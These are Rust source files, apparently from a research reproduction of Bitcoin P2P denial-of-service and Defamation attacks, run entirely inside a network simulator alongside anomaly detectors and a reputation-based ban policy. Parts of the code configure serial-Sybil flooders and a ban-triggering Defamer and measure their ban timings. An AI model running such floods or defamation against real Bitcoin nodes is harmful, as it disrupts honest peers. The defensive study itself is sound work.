        .train(&per_peer_windows(&train_trace, train_span, cfg.window))
        .expect("per-peer training windows");
    let streaming = StreamingEngine::new(peer_profile.clone(), cfg.window);

    let cases = btc_par::par_map(jobs, CASES.to_vec(), |name| {
        serve_case(name, &cfg, &engine, &node_profile, &streaming)
    });
    ServeResult {
        window: cfg.window,
        profile: peer_profile,
        cases,
    }
}

fn serve_case(
    name: &'static str,
    cfg: &ServeConfig,
    engine: &AnalysisEngine,
    node_profile: &Profile,
    streaming: &StreamingEngine,
) -> ServeCase {
    let tb = run_case_testbed(name, &cfg.fig10);
    let end = SETTLE + cfg.fig10.test;
    let trace = telemetry_trace(&tb.target_node().telemetry, SETTLE, end);
    let span = TraceSpan {
        start: SETTLE,
        end,
    };

    // ---- The sharded service at every shard count.
    let mut runs = Vec::new();
    let mut reference: Option<ServeOutput> = None;
    let mut digests_agree = true;
    for shards in SHARDS {
        // lint:allow(wallclock): bench timing only; verdict digests are compared across shard counts below
        let (out, bench) = bench_service(streaming, &trace, span, shards);
        runs.push(ShardRun {
            shards,
            bench,
            digest: out.digest,
        });
        match &reference {
            None => reference = Some(out),
            Some(first) => digests_agree &= out.digest == first.digest,
        }
    }
    let reference = reference.expect("at least one shard count");

    // ---- The batch pipeline on the same trace.
    // lint:allow(wallclock): bench timing only; batch verdicts feed the digest-checked agreement
    let (batch, batch_bench) = bench_batch(&streaming.profile, engine, &trace, span, cfg.window);
    let agreement = verdict_agreement(&reference.verdicts, &batch);

    // ---- Node-aggregate: one pseudo-peer, one window, Figure-10 profile.
    let agg_trace: Vec<TraceEvent> = trace.iter().map(|e| TraceEvent { peer: 0, ..*e }).collect();
    let agg_engine = StreamingEngine::new(node_profile.clone(), end - SETTLE);
    // lint:allow(wallclock): run_service times internally for its bench stats; verdicts are deterministic
    let agg = run_service(&agg_engine, &agg_trace, span, 1);
    let aggregate_streaming = agg
        .verdicts
        .first()
        .expect("one aggregate window")
        .verdict
        .detection
        .clone();
    let aggregate_batch = engine.detect(node_profile, &tb.single_window(SETTLE, end));

    ServeCase {
        name,
        events: reference.events,
        peers: reference.peers,
        verdicts: reference.verdicts.len() as u64,
        anomalous: reference.anomalous,
        digests_agree,
        runs,
        batch: batch_bench,
        batch_digest: verdict_digest(&batch),
        agreement,
        aggregate_streaming,
        aggregate_batch,
    }
}

fn verdict_word(d: &Detection) -> String {
    if d.anomalous {
        format!("ANOMALOUS {:?}", d.violations)
    } else {
        "normal".to_owned()
    }
}

/// Renders the study as text. Digest/verdict lines are deterministic;
/// lines prefixed `[wall]` carry wall-clock measurements and differ
/// between any two runs.
pub fn render_serve(r: &ServeResult) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "Per-peer profile: τ_n = [{:.1}, {:.1}] msg/min, τ_c = [0, {:.1}]/min, τ_Λ = {:.3}; \
         window = {:.1} min",
        r.profile.tau_n.0,
        r.profile.tau_n.1,
        r.profile.tau_c.1,
        r.profile.tau_lambda,
        r.window as f64 / MINUTES as f64
    )
    .unwrap();
    for c in &r.cases {
        writeln!(
            out,
            "{:<11} events={} peers={} verdicts={} anomalous={}",
            c.name, c.events, c.peers, c.verdicts, c.anomalous
        )
        .unwrap();
        for run in &c.runs {
            writeln!(out, "  digest shards={} {:016x}", run.shards, run.digest).unwrap();
        }
        writeln!(
            out,
            "  streaming vs batch: {}/{} cells agree (batch digest {:016x})",
            c.agreement.0, c.agreement.1, c.batch_digest
        )
        .unwrap();
        writeln!(
            out,
            "  node aggregate: streaming={} batch={} agree={}",
            verdict_word(&c.aggregate_streaming),
            verdict_word(&c.aggregate_batch),
            if c.aggregate_streaming.anomalous == c.aggregate_batch.anomalous
                && c.aggregate_streaming.violations == c.aggregate_batch.violations
            {
                "yes"
            } else {
                "NO"
            }
        )
        .unwrap();
        for run in &c.runs {
            writeln!(
                out,
                "  [wall] shards={} {:>12.0} msg/s  p50 {} ns  p99 {} ns",
                run.shards,
                run.bench.msgs_per_sec,
                run.bench.p50_decision_ns,
                run.bench.p99_decision_ns
            )
            .unwrap();
        }
        writeln!(
            out,
            "  [wall] batch    {:>12.0} msg/s  {} ns/window amortized",
            c.batch.msgs_per_sec, c.batch.p99_decision_ns
        )
        .unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quick_cfg() -> ServeConfig {
        ServeConfig {
            fig10: Fig10Config {
                train: 20 * MINUTES,
                window: 5 * MINUTES,
                test: 4 * MINUTES,
                innocents: 25,
            },
            window: MINUTES,
        }
    }

    #[test]
    fn serve_matches_batch_and_shards_agree() {
        let r = run_serve_jobs(quick_cfg(), 2);
        assert_eq!(r.cases.len(), 3);
        for c in &r.cases {
            assert!(c.digests_agree, "{}: shard digests diverged", c.name);
            assert_eq!(c.runs.len(), SHARDS.len());
            assert!(c.events > 0, "{}: empty trace", c.name);
            let (matching, total) = c.agreement;
            assert_eq!(matching, total, "{}: streaming != batch", c.name);
            // The node-aggregate streaming verdict reproduces Figure 10.
            assert_eq!(
                c.aggregate_streaming.anomalous, c.aggregate_batch.anomalous,
                "{}: aggregate verdicts diverged",
                c.name
            );
            assert_eq!(c.aggregate_streaming.violations, c.aggregate_batch.violations);
            assert_eq!(c.aggregate_streaming.n, c.aggregate_batch.n);
            assert_eq!(c.aggregate_streaming.c, c.aggregate_batch.c);
            assert!((c.aggregate_streaming.rho - c.aggregate_batch.rho).abs() < 1e-9);
        }
        let get = |n: &str| r.cases.iter().find(|c| c.name == n).expect("case");
        assert!(!get("normal").aggregate_streaming.anomalous);
        assert!(get("bm-dos").aggregate_streaming.anomalous);
        assert!(get("defamation").aggregate_streaming.anomalous);
        // The flood shows up in the per-peer layer too.
        assert!(get("bm-dos").anomalous > get("normal").anomalous);
    }

    #[test]
    fn render_separates_digest_and_wall_clock_lines() {
        let r = run_serve(quick_cfg());
        let t = render_serve(&r);
        assert!(t.contains("digest shards=1"));
        assert!(t.contains("digest shards=4"));
        assert!(t.contains("[wall] shards=2"));
        assert!(t.contains("node aggregate"));
    }

    #[test]
    fn peer_key_is_injective_on_distinct_sockets() {
        let a = peer_key(SockAddr::new([10, 0, 0, 1], 8333));
        let b = peer_key(SockAddr::new([10, 0, 0, 1], 8334));
        let c = peer_key(SockAddr::new([10, 0, 0, 2], 8333));
        assert_ne!(a, b);
        assert_ne!(a, c);
        assert_ne!(b, c);
    }
}
