//! `repro swarm` — the paper's attack testbed embedded in a 100k+ host
//! background swarm, executed on the sharded simulator
//! ([`btc_netsim::shard`]).
//!
//! The scenario answers the scale question the serial testbed cannot: the
//! BM-DoS and Defamation measurements were taken against a handful of
//! nodes, but the production network the attacks target has orders of
//! magnitude more (mostly unreachable) peers whose traffic the victim's
//! region still carries. Here the §V testbed — target node, Mainnet
//! feeders, innocent peers, attacker — is pinned into region 0 (the
//! attacker's tap must see victim traffic live, and sniffing is
//! region-local), while `swarm_hosts` additional hosts running periodic
//! ICMP probes are spread across every region by the seed-deterministic
//! shard assignment.
//!
//! Three cases, mirroring the fault-matrix sweep at swarm scale:
//!
//! * `bm-dos` — a serial-Sybil PING flooder against the target;
//! * `defamation` — the post-connection Defamer striking the target's
//!   innocent peers off a live region-0 tap;
//! * `faults` — no attacker, but i.i.d. loss + jitter plus scheduled
//!   link flaps of the target's peers (the adverse-network case).
//!
//! Everything in [`SwarmOutcome`] is deterministic and independent of
//! [`SwarmSpec::workers`] — the worker count only decides which OS thread
//! executes which region. The wall-clock benchmarking around this
//! scenario lives in `btc-bench` (`crates/bench/src/swarm.rs`), keeping
//! this crate free of wall-clock reads per the lint contract.

use crate::mainnet::MainnetPeer;
use crate::testbed::addrs;
use btc_attack::defamation::PostConnDefamer;
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::faults::{FaultKind, FaultPlan, LinkFaults};
use btc_netsim::packet::{Ipv4, SockAddr};
use btc_netsim::shard::{ShardConfig, ShardedSim};
use btc_netsim::sim::{App, Ctx, HostConfig, TapFilter};
use btc_netsim::time::{Nanos, MILLIS, SECS};
use btc_node::node::{Node, NodeConfig};
use std::any::Any;

/// The evaluated cases, in presentation order.
pub const CASES: [&str; 3] = ["bm-dos", "defamation", "faults"];

/// Link faults of the `faults` case.
const FAULT_LOSS: f64 = 0.01;
const FAULT_JITTER: Nanos = 2 * MILLIS;

/// One fully specified swarm run.
#[derive(Clone, Copy, Debug)]
pub struct SwarmSpec {
    /// One of [`CASES`].
    pub case: &'static str,
    /// Background swarm hosts (the attack core adds a few more).
    pub swarm_hosts: usize,
    /// Region count — part of the experiment configuration (fixes the
    /// partition and the RNG streams).
    pub regions: u32,
    /// Worker threads — pure execution knob, must not change any output.
    pub workers: usize,
    /// Measured virtual duration.
    pub dur: Nanos,
    /// Innocent peers the target dials (the Defamation victims).
    pub innocents: usize,
    /// Simulation seed.
    pub seed: u64,
}

/// Everything a swarm run reduces to. Every field is deterministic; the
/// digest folds the rest plus sampled per-host counters.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SwarmOutcome {
    /// Total hosts simulated (swarm + attack core).
    pub hosts: usize,
    /// FNV-1a over the run's observable state (the CI byte-equality
    /// anchor).
    pub digest: u64,
    /// Packets delivered across all regions.
    pub delivered: u64,
    /// Messages the target node processed.
    pub target_msgs: u64,
    /// Bans the target issued.
    pub target_bans: u64,
    /// ICMP echo replies received by the sampled swarm hosts.
    pub swarm_replies: u64,
    /// Fault-layer drops (loss + partition).
    pub dropped: u64,
    /// Defamation strikes performed (0 outside the `defamation` case).
    pub strikes: u64,
    /// Flood messages sent (0 outside the `bm-dos` case).
    pub flood_msgs: u64,
}

/// The `i`-th background swarm host, ascending — appended to the host
/// index in order, so building 100k hosts stays linear.
pub fn swarm_ip(i: usize) -> Ipv4 {
    assert!(i < 240 << 16, "swarm address plan exhausted");
    [172, 16 + (i >> 16) as u8, (i >> 8) as u8, i as u8]
}

/// A background swarm host: staggered periodic ICMP probes to two fixed
/// swarm peers. Targets, period and phase are all index-derived, so the
/// traffic pattern is a function of the topology alone. Shared with the
/// `reputation` scenario's swarm case.
pub(crate) struct SwarmPinger {
    pub(crate) targets: [Ipv4; 2],
    pub(crate) period: Nanos,
    pub(crate) next: usize,
    pub(crate) replies: u64,
}

impl App for SwarmPinger {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        // Phase-stagger the first probe so start-up is not one burst.
        let phase = self.period / 2 + (u64::from(self.targets[0][3]) + 1) * 7 * MILLIS;
        ctx.set_timer(phase, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        let dst = self.targets[self.next % self.targets.len()];
        self.next += 1;
        ctx.send_icmp(dst, 4, (self.next & 0xFFFF) as u16, 56);
        ctx.set_timer(self.period, 0);
    }
    fn on_icmp(&mut self, _ctx: &mut Ctx<'_>, _from: Ipv4, echo: &btc_netsim::packet::IcmpEcho) {
        if !echo.request {
            self.replies += 1;
        }
    }
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Scheduled link flaps of the target's peers for the `faults` case: one
/// innocent down for 400 ms every second, round-robin — the swarm-scale
/// analogue of the fault-matrix churn dimension.
fn flap_plan(innocents: usize, dur: Nanos) -> FaultPlan {
    let mut plan = FaultPlan::none();
    if innocents == 0 {
        return plan;
    }
    let period = SECS;
    let down = 400 * MILLIS;
    let mut t = period;
    let mut i = 0usize;
    while t + down < dur {
        plan = plan.with(t, t + down, FaultKind::HostDown(addrs::innocent(i % innocents)));
        t += period;
        i += 1;
    }
    plan
}

fn fnv(h: u64, x: u64) -> u64 {
    (h ^ x).wrapping_mul(0x100_0000_01B3)
}

/// Runs one swarm case end to end and reduces it to its deterministic
/// outcome.
///
/// # Panics
///
/// Panics on an unknown [`SwarmSpec::case`].
pub fn run_swarm(spec: &SwarmSpec) -> SwarmOutcome {
    let faults = if spec.case == "faults" {
        LinkFaults {
            loss: FAULT_LOSS,
            jitter: FAULT_JITTER,
            ..LinkFaults::NONE
        }
    } else {
        LinkFaults::NONE
    };
    let mut sim = ShardedSim::new(ShardConfig {
        regions: spec.regions,
        workers: spec.workers,
        seed: spec.seed,
        faults,
        ..ShardConfig::default()
    });
    if spec.case == "faults" {
        sim.set_fault_plan(flap_plan(spec.innocents, spec.dur));
    }

    // ---- The attack core, pinned into region 0 (testbed build order:
    // innocents listen before the target dials, feeders last).
    let mut hosts = 0usize;
    let innocent_ips: Vec<Ipv4> = (0..spec.innocents).map(addrs::innocent).collect();
    for ip in &innocent_ips {
        sim.add_host_pinned(*ip, Box::new(Node::new(NodeConfig::default())), HostConfig::default(), 0);
        hosts += 1;
    }
    let mut node_cfg = NodeConfig::default();
    node_cfg.target_outbound = 2.min(spec.innocents);
    node_cfg.outbound_targets = innocent_ips.iter().map(|ip| SockAddr::new(*ip, 8333)).collect();
    let target_addr = SockAddr::new(addrs::TARGET, node_cfg.listen_port);
    sim.add_host_pinned(addrs::TARGET, Box::new(Node::new(node_cfg)), HostConfig::default(), 0);
    hosts += 1;
    for i in 0..3 {
        sim.add_host_pinned(
            addrs::feeder(i),
            Box::new(MainnetPeer::new(target_addr)),
            HostConfig::default(),
            0,
        );
        hosts += 1;
    }
    match spec.case {
        "bm-dos" => {
            sim.add_host_pinned(
                addrs::ATTACKER,
                Box::new(Flooder::new(FloodConfig {
                    target: target_addr,
                    payload: FloodPayload::Ping,
                    reconnect_on_ban: true,
                    sybil_port_start: 50_000,
                    ..FloodConfig::default()
                })),
                HostConfig::default(),
                0,
            );
            hosts += 1;
        }
        "defamation" => {
            // The Defamer drains its tap during timer callbacks, so the
            // tap and the attacker must both live in the target's region.
            let tap = sim.add_tap_in(TapFilter::Host(addrs::TARGET), 0);
            let mut defamer = PostConnDefamer::new(target_addr, innocent_ips.clone(), tap);
            defamer.poll = 100 * MILLIS;
            sim.add_host_pinned(addrs::ATTACKER, Box::new(defamer), HostConfig::default(), 0);
            hosts += 1;
        }
        "faults" => {}
        other => panic!("unknown swarm case {other}"),
    }

    // ---- The background swarm, spread by the hash assignment. Addresses
    // ascend, so each index insert is an append.
    let n = spec.swarm_hosts;
    for i in 0..n {
        let targets = [swarm_ip((i + 1) % n), swarm_ip((i * 7 + 3) % n)];
        let period = 250 * MILLIS + (i as u64 % 64) * 25 * MILLIS;
        sim.add_host(
            swarm_ip(i),
            Box::new(SwarmPinger {
                targets,
                period,
                next: 0,
                replies: 0,
            }),
            HostConfig::default(),
        );
        hosts += 1;
    }

    sim.run_for(spec.dur);

    // ---- Reduce. Sampled swarm hosts keep the reduction O(1)-ish at
    // 100k hosts while still covering every region statistically.
    let fs = sim.fault_stats();
    let delivered = sim.delivered_packets();
    let (target_msgs, target_bans) = {
        let node: &Node = sim.app(addrs::TARGET).expect("target is a Node");
        (node.telemetry.messages.len() as u64, node.telemetry.bans)
    };
    let strikes = match spec.case {
        "defamation" => {
            let d: &PostConnDefamer = sim.app(addrs::ATTACKER).expect("defamer present");
            d.records.len() as u64
        }
        _ => 0,
    };
    let flood_msgs = match spec.case {
        "bm-dos" => {
            let f: &Flooder = sim.app(addrs::ATTACKER).expect("flooder present");
            f.stats.messages_sent
        }
        _ => 0,
    };

    let mut h = 0xCBF2_9CE4_8422_2325u64;
    let mut swarm_replies = 0u64;
    let stride = (n / 32).max(1);
    let mut i = 0;
    while i < n {
        let ip = swarm_ip(i);
        let c = sim.host_counters(ip);
        let p: &SwarmPinger = sim.app(ip).expect("swarm host is a pinger");
        swarm_replies += p.replies;
        for v in [c.rx_packets, c.rx_bytes, c.tx_packets, c.tx_bytes, p.replies] {
            h = fnv(h, v);
        }
        i += stride;
    }
    let tc = sim.host_counters(addrs::TARGET);
    for v in [
        delivered,
        fs.dropped_loss,
        fs.dropped_partition,
        fs.jittered,
        fs.reordered,
        target_msgs,
        target_bans,
        tc.rx_packets,
        tc.rx_bytes,
        tc.tx_packets,
        tc.tx_bytes,
        strikes,
        flood_msgs,
        hosts as u64,
    ] {
        h = fnv(h, v);
    }

    SwarmOutcome {
        hosts,
        digest: h,
        delivered,
        target_msgs,
        target_bans,
        swarm_replies,
        dropped: fs.dropped_loss + fs.dropped_partition,
        strikes,
        flood_msgs,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny(case: &'static str, workers: usize) -> SwarmSpec {
        SwarmSpec {
            case,
            swarm_hosts: 200,
            regions: 5,
            workers,
            dur: 3 * SECS,
            innocents: 4,
            seed: 7,
        }
    }

    #[test]
    fn outcome_is_invariant_across_worker_counts() {
        for case in CASES {
            let base = run_swarm(&tiny(case, 1));
            let multi = run_swarm(&tiny(case, 3));
            assert_eq!(base, multi, "{case}: outcome diverged across workers");
            assert!(base.delivered > 0, "{case}: no traffic");
            assert!(base.swarm_replies > 0, "{case}: swarm silent");
            assert!(base.target_msgs > 0, "{case}: target silent");
        }
    }

    #[test]
    fn bm_dos_floods_the_target() {
        let r = run_swarm(&tiny("bm-dos", 2));
        assert!(r.flood_msgs > 0, "flooder sent nothing");
        let normal = run_swarm(&tiny("faults", 2));
        assert!(
            r.target_msgs > normal.target_msgs,
            "flood did not raise target traffic: {} vs {}",
            r.target_msgs,
            normal.target_msgs
        );
    }

    #[test]
    fn defamation_strikes_off_the_live_tap() {
        let r = run_swarm(&tiny("defamation", 2));
        assert!(r.strikes > 0, "defamer never struck");
    }

    #[test]
    fn fault_case_exercises_the_fault_layer() {
        let r = run_swarm(&tiny("faults", 2));
        assert!(r.dropped > 0, "no fault-layer drops");
    }
}
