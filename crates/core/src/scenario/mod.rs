//! Experiment scenarios: one module per reproduced table/figure.

pub mod evasion;
pub mod fault_matrix;
pub mod fig10;
pub mod fig6;
pub mod fig8;
pub mod reputation;
pub mod serve;
pub mod swarm;
pub mod table3;
