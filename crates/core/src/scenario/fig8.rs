//! Figure 8 and §VI-D: the Defamation/serial-Sybil timing study — the ban
//! staircase, time-to-ban with and without pacing, reconnection latency
//! and the full-IP preemptive Defamation estimate (≈81.92 minutes to ban
//! all 16384 ephemeral ports of one IP).

use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::sim::HostConfig;
use btc_netsim::time::{Nanos, MILLIS, SECS};
use btc_wire::constants::DEFAULT_BANSCORE_THRESHOLD;

/// Number of dynamic/ephemeral ports (49152–65535) the full-IP attack must
/// defame.
pub const EPHEMERAL_PORTS: u64 = 65_536 - 49_152;

/// The Figure-8 measurement.
#[derive(Clone, Debug)]
pub struct Fig8Result {
    /// Ban-score staircase of the first banned identifier: (seconds since
    /// that connection started, score).
    pub staircase: Vec<(f64, u32)>,
    /// Mean seconds from flood start to ban, no pacing (paper ≈ 0.1 s).
    pub time_to_ban_fast: f64,
    /// Mean seconds to ban with +1 ms pacing (paper ≈ 0.2 s).
    pub time_to_ban_slow: f64,
    /// Mean seconds between a ban and the next session being established
    /// (paper ≈ 0.2 s socket setup).
    pub reconnect_latency: f64,
    /// Identifiers banned during the fast run.
    pub bans_fast: usize,
    /// Estimated minutes to defame all ephemeral ports of one IP
    /// (paper: 16384 × (0.1 + 0.2) / 60 ≈ 81.92 min).
    pub full_ip_minutes: f64,
}

/// One pacing's measurements, reduced to plain data. The simulator (which
/// holds `Rc` tap handles and boxed apps, and is therefore not `Send`) is
/// built *and* consumed inside [`run_point`], so runs can execute on
/// worker threads.
#[derive(Clone, Debug)]
pub struct Fig8Run {
    /// Mean seconds from flood start to ban.
    pub time_to_ban: f64,
    /// Identifiers banned during the run.
    pub bans: usize,
    /// Mean seconds between a ban and the next session being established.
    pub reconnect_latency: f64,
    /// Ban-score staircase of the first banned identifier.
    pub staircase: Vec<(f64, u32)>,
}

/// Runs one serial-Sybil Defamation flood at the given pacing and reduces
/// everything Figure 8 needs from it.
pub fn run_point(extra_interval: Nanos, duration_secs: u64) -> Fig8Run {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::DuplicateVersion,
            reconnect_on_ban: true,
            sybil_port_start: 50_000,
            connect_setup_delay: 200 * MILLIS,
            extra_interval,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    tb.sim.run_for(duration_secs * SECS);
    let attacker: &Flooder = tb.sim.app(addrs::ATTACKER).expect("flooder");
    let time_to_ban = attacker.mean_time_to_ban().unwrap_or(f64::NAN);
    let bans = attacker.stats.bans.len();
    // Reconnect latency: gap between a ban and the next session start.
    let mut reconnect_gaps = Vec::new();
    for pair in attacker.stats.bans.windows(2) {
        let next_start = pair[1].started;
        let prev_ban = pair[0].time;
        if next_start > prev_ban {
            reconnect_gaps.push((next_start - prev_ban) as f64 / SECS as f64);
        }
    }
    let reconnect_latency = if reconnect_gaps.is_empty() {
        f64::NAN
    } else {
        reconnect_gaps.iter().sum::<f64>() / reconnect_gaps.len() as f64
    };
    // The staircase of the first banned identifier, from the target's own
    // misbehavior tracker.
    let node = tb.target_node();
    let first_peer = node.tracker.events().first().map(|e| e.peer);
    let mut staircase = Vec::new();
    if let Some(peer) = first_peer {
        let t0 = node
            .tracker
            .events()
            .iter()
            .find(|e| e.peer == peer)
            .map(|e| e.time)
            .unwrap_or(0);
        for e in node.tracker.events().iter().filter(|e| e.peer == peer) {
            staircase.push(((e.time - t0) as f64 / SECS as f64, e.total));
        }
    }
    Fig8Run {
        time_to_ban,
        bans,
        reconnect_latency,
        staircase,
    }
}

/// Runs the Figure-8 study: `duration_secs` of serial-Sybil Defamation at
/// both pacings.
pub fn run_fig8(duration_secs: u64) -> Fig8Result {
    run_fig8_jobs(duration_secs, 1)
}

/// [`run_fig8`] with the two pacings (no delay, +1 ms) fanned across
/// `jobs` workers. Results are identical for any job count.
pub fn run_fig8_jobs(duration_secs: u64, jobs: usize) -> Fig8Result {
    let runs = btc_par::par_map(jobs, vec![0 as Nanos, MILLIS], |extra| {
        run_point(extra, duration_secs)
    });
    let [fast, slow]: [Fig8Run; 2] = runs.try_into().expect("two pacings");
    let full_ip_minutes =
        EPHEMERAL_PORTS as f64 * (fast.time_to_ban + fast.reconnect_latency) / 60.0;
    Fig8Result {
        staircase: fast.staircase,
        time_to_ban_fast: fast.time_to_ban,
        time_to_ban_slow: slow.time_to_ban,
        reconnect_latency: fast.reconnect_latency,
        bans_fast: fast.bans,
        full_ip_minutes,
    }
}

/// Renders the Figure-8 study as text.
pub fn render_fig8(r: &Fig8Result) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(out, "Serial-Sybil Defamation via duplicate VERSION (+1 each)").unwrap();
    writeln!(out, "  time to ban, no delay : {:>7.3} s   (paper ≈ 0.1 s)", r.time_to_ban_fast).unwrap();
    writeln!(out, "  time to ban, 1 ms gap : {:>7.3} s   (paper ≈ 0.2 s)", r.time_to_ban_slow).unwrap();
    writeln!(out, "  reconnect latency     : {:>7.3} s   (paper ≈ 0.2 s)", r.reconnect_latency).unwrap();
    writeln!(out, "  identifiers banned    : {:>7}", r.bans_fast).unwrap();
    writeln!(
        out,
        "  full-IP defamation    : {:>7.2} min over {} ports (paper ≈ 81.92 min)",
        r.full_ip_minutes, EPHEMERAL_PORTS
    )
    .unwrap();
    writeln!(out, "  staircase (first identifier):").unwrap();
    for (t, score) in r
        .staircase
        .iter()
        .filter(|(_, s)| s % 20 == 0 || *s == 1 || *s == DEFAULT_BANSCORE_THRESHOLD)
    {
        writeln!(out, "    {t:>6.3} s  score {score:>3}").unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fig8_timings_match_paper() {
        let r = run_fig8(4);
        assert!((0.08..0.15).contains(&r.time_to_ban_fast), "fast {}", r.time_to_ban_fast);
        assert!((0.17..0.30).contains(&r.time_to_ban_slow), "slow {}", r.time_to_ban_slow);
        // Reconnect ≈ 0.2 s setup + SYN/handshake round-trips.
        assert!((0.15..0.35).contains(&r.reconnect_latency), "reconnect {}", r.reconnect_latency);
        assert!(r.bans_fast >= 8, "bans {}", r.bans_fast);
        // Paper's §VI-D estimate: ≈ 81.92 minutes.
        assert!((60.0..110.0).contains(&r.full_ip_minutes), "full-ip {}", r.full_ip_minutes);
    }

    #[test]
    fn staircase_rises_one_by_one_to_100() {
        let r = run_fig8(2);
        assert_eq!(r.staircase.len(), 100);
        assert_eq!(r.staircase.first().map(|(_, s)| *s), Some(1));
        assert_eq!(r.staircase.last().map(|(_, s)| *s), Some(100));
        // Non-decreasing times.
        assert!(r.staircase.windows(2).all(|w| w[0].0 <= w[1].0));
    }

    #[test]
    fn render_mentions_key_numbers() {
        let r = run_fig8(2);
        let t = render_fig8(&r);
        assert!(t.contains("full-IP defamation"));
        assert!(t.contains("score 100"));
    }
}
