//! `repro reputation` — the trust-tier reputation engine versus the stock
//! ban cliff and the paper's detector, three ways across every threat the
//! paper raises.
//!
//! The sweep runs the same attack cases against three peer policies:
//!
//! * **stock** — Table-I points, 100 → 24 h hard ban (the paper's victim);
//! * **detector** — the same node, with the §VII anomaly detector trained
//!   on clean traffic and evaluated over the measured telemetry (the
//!   detector *observes* but the ban mechanism is unchanged — exactly the
//!   paper's proposal);
//! * **trust-tiers** — the [`btc_node::banscore::ReputationEngine`]:
//!   weighted penalties, sim-time decay, graylist soft-bans, hard ban only
//!   from within the graylist.
//!
//! Cases: `bm-dos` (serial-Sybil PING flood — *no* Table-I rule covers it,
//! so the stock tracker never moves), `defamation` (spoofed strikes on the
//! target's innocent peers, the 24 h false-ban amplifier), and ≥ 2
//! honest-churn points from the fault-matrix grid (link flaps, no
//! attacker — the false-positive probe). A swarm case pins the tier
//! engine inside the sharded 100k-host simulator and checks its digest is
//! invariant across worker counts.
//!
//! The headline numbers: whether the flood is finally *punished* (tiers
//! graylist the flooder where stock scores nothing), and the
//! recovery-time delta for defamed innocents — a graylist expires into
//! Probation after [`btc_node::banscore::ReputationConfig::graylist_duration`]
//! while a stock ban excludes the identifier for 24 hours.
//!
//! Everything below is deterministic: fixed per-case seeds, sim-time-only
//! state, [`btc_par::par_map`] preserving input order — `--jobs N` output
//! is byte-identical for any `N`.

use crate::scenario::fault_matrix::FaultPoint;
use crate::scenario::swarm::{swarm_ip, SwarmPinger};
use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::defamation::PostConnDefamer;
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_detect::engine::{AnalysisEngine, Profile};
use btc_detect::features::TrafficWindow;
use btc_netsim::faults::{FaultKind, FaultPlan};
use btc_netsim::packet::{Ipv4, SockAddr};
use btc_netsim::shard::{ShardConfig, ShardedSim};
use btc_netsim::sim::{HostConfig, TapFilter};
use btc_netsim::time::{Nanos, MILLIS, MINUTES, SECS};
use btc_node::node::{Node, NodeConfig, PeerPolicy};
use btc_node::Tier;
use std::collections::{BTreeMap, BTreeSet};

/// The compared policies, in presentation order.
pub const POLICIES: [&str; 3] = ["stock", "detector", "trust-tiers"];

/// One attack/traffic case of the sweep.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SweepCase {
    /// Serial-Sybil PING flood (reconnect-on-ban).
    BmDos,
    /// Post-connection Defamation against the target's innocent peers.
    Defamation,
    /// No attacker; scheduled link flaps at this many per minute (a
    /// fault-matrix churn grid point).
    Churn(u32),
}

impl SweepCase {
    /// Stable label, e.g. `bm-dos` or `churn=5`.
    pub fn label(&self) -> String {
        match self {
            SweepCase::BmDos => "bm-dos".to_owned(),
            SweepCase::Defamation => "defamation".to_owned(),
            SweepCase::Churn(fpm) => format!("churn={fpm}"),
        }
    }

    /// The per-case seed — identical across policies, so row differences
    /// are attributable to the policy alone.
    fn seed(&self) -> u64 {
        match self {
            SweepCase::BmDos => 3,
            SweepCase::Defamation => 4,
            SweepCase::Churn(fpm) => 100 + u64::from(*fpm),
        }
    }
}

/// The swarm pinning case: the tier-engine target embedded in a sharded
/// background swarm under a PING flood.
#[derive(Clone, Copy, Debug)]
pub struct SwarmTierSpec {
    /// Background swarm hosts (the attack core adds a few more).
    pub swarm_hosts: usize,
    /// Region count (part of the experiment configuration).
    pub regions: u32,
    /// Worker threads — a pure execution knob; the outcome must not
    /// change with it.
    pub workers: usize,
    /// Measured virtual duration.
    pub dur: Nanos,
    /// Innocent peers the target dials.
    pub innocents: usize,
    /// Simulation seed.
    pub seed: u64,
}

/// Sweep configuration.
#[derive(Clone, Debug)]
pub struct ReputationSweepConfig {
    /// Clean-traffic training duration for the detector policy.
    pub train: Nanos,
    /// Detection window length.
    pub window: Nanos,
    /// Measured duration per case (after a one-minute settle).
    pub test: Nanos,
    /// Innocent listening nodes the target draws outbound peers from.
    pub innocents: usize,
    /// Honest-churn grid points (flaps per minute); at least two.
    pub churn_points: Vec<u32>,
    /// The swarm pinning case.
    pub swarm: SwarmTierSpec,
}

impl ReputationSweepConfig {
    /// The full sweep.
    pub fn full() -> Self {
        ReputationSweepConfig {
            train: 15 * MINUTES,
            window: MINUTES,
            test: 5 * MINUTES,
            innocents: 12,
            churn_points: vec![5, 10],
            swarm: SwarmTierSpec {
                swarm_hosts: 10_000,
                regions: 8,
                workers: 4,
                dur: 3 * SECS,
                innocents: 4,
                seed: 7,
            },
        }
    }

    /// A faster sweep for smoke runs (same shape: both attacks plus two
    /// churn points).
    pub fn quick() -> Self {
        ReputationSweepConfig {
            train: 8 * MINUTES,
            window: MINUTES,
            test: 3 * MINUTES,
            innocents: 8,
            churn_points: vec![5, 10],
            swarm: SwarmTierSpec {
                swarm_hosts: 300,
                regions: 5,
                workers: 2,
                dur: 2 * SECS,
                innocents: 4,
                seed: 7,
            },
        }
